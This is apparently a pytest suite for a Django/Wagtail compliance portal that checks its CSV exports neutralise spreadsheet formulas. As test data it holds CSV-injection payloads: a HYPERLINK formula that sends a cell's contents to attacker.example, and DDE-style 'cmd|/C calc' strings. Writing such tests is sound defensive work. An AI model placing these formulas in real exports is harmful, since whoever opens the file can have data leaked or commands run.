"""Every CSV the portal serves neutralises spreadsheet formulas (OWASP's CSV-injection rule):
public compliance tables, a buyer's factory report and the Wagtail admin's exports."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.http import HttpResponse, StreamingHttpResponse
from django.test import RequestFactory
from wagtail.models import Locale, Page

from ims_bridge.models import Factory, FactoryAccessGrant
from portal.csv_safety import SpreadsheetFormulaMiddleware, neutralise
from portal.roles import BUYERS
from tests.factories import compliance_section
from tests.ims_bridge.helpers import star_csv, star_row

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://attacker.example/?d="&A1,"click")', "+1+cmd|'/C calc'!A0", "-2+3"]


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.fixture
def hostile_import(tmp_path):
    """Five Cambodian factories (so the country's figures are published) whose imported
    texts start like formulas: question labels, a global question id, a factory name and an
    FGW text answer."""
    compliance_section()
    rows = []
    for number in range(1, 6):
        factory = f"KH-{number}"
        name = "@SUM(1+1)*cmd|' /C calc'!A0" if number == 1 else None
        rows += [
            star_row(
                factory,
                f"A{number}",
                name=name,
                question="Q1",
                label=HOSTILE[0],
                global_id="=1+1",
                finding=str(number % 2),
            ),
            star_row(
                factory, f"A{number}", name=name, question="Q2", label=HOSTILE[1], finding="0"
            ),
            star_row(
                factory,
                f"A{number}",
                name=name,
                question="F1",
                qtype="FGW",
                label="Workers",
                finding=HOSTILE[2],
            ),
        ]
    path = tmp_path / "hostile.csv"
    path.write_text(star_csv(rows), encoding="utf-8")
    call_command("ims_import", str(path), stdout=io.StringIO())


def assert_no_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert cells, "empty CSV"
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not formulas, formulas


def test_public_question_table_neutralises_imported_labels(client, hostile_import):
    response = client.get("/en/compliance/countries/cambodia/questions/csv/")
    assert response.status_code == 200
    rows = rows_of(response)
    assert_no_formula(rows)
    # The text survives, shown as text: the apostrophe is what spreadsheets hide.
    assert ["'=1+1", "'" + HOSTILE[0], "5", "60.0"] in rows


def test_buyers_factory_report_neutralises_labels_names_and_answers(client, hostile_import):
    buyer = Group.objects.get_or_create(name=BUYERS)[0].user_set.create(username="buyer")
    FactoryAccessGrant.objects.create(factory=Factory.objects.get(star_id="KH-1"), buyer=buyer)
    client.force_login(buyer)
    response = client.get("/en/compliance/factories/KH-1/csv/")
    assert response.status_code == 200
    rows = rows_of(response)
    assert_no_formula(rows)
    assert "'" + HOSTILE[2] in [row[-1] for row in rows]  # the FGW answer, as text
    assert "'" + HOSTILE[1] in [row[6] for row in rows]


def test_admin_exports_are_neutralised_too(admin_client):
    """Wagtail's own spreadsheet exports (here: the site history report) go through the same
    rule: a page title that looks like a formula is written as text."""
    home = Page.objects.get(depth=2, locale=Locale.get_default()).specific
    home.title = '=HYPERLINK("http://attacker.example","x")'
    home.save_revision(user=None, log_action=True).publish()
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = rows_of(response)
    assert_no_formula(rows)
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


@pytest.mark.parametrize("streaming", [False, True])
def test_the_middleware_keeps_cells_intact_across_chunks(streaming):
    body = 'a,b\r\n"line\r\nbreak","=1"\r\nខ្មែរ,@x\r\n-3,ok\r\n'.encode()
    chunks = [body[i : i + 3] for i in range(0, len(body), 3)]  # splits Khmer characters too
    if streaming:
        response = StreamingHttpResponse(iter(chunks), content_type="text/csv")
    else:
        response = HttpResponse(body, content_type="text/csv; charset=utf-8")
    request = RequestFactory().get("/x.csv")
    result = SpreadsheetFormulaMiddleware(lambda _request: response)(request)
    assert rows_of(result) == [
        ["a", "b"],
        ["line\r\nbreak", "'=1"],
        ["ខ្មែរ", "'@x"],
        ["'-3", "ok"],
    ]


def test_other_responses_are_untouched():
    response = HttpResponse("=1,+2", content_type="text/plain")
    result = SpreadsheetFormulaMiddleware(lambda _request: response)(RequestFactory().get("/"))
    assert result.content == b"=1,+2"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (5, "5"),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected
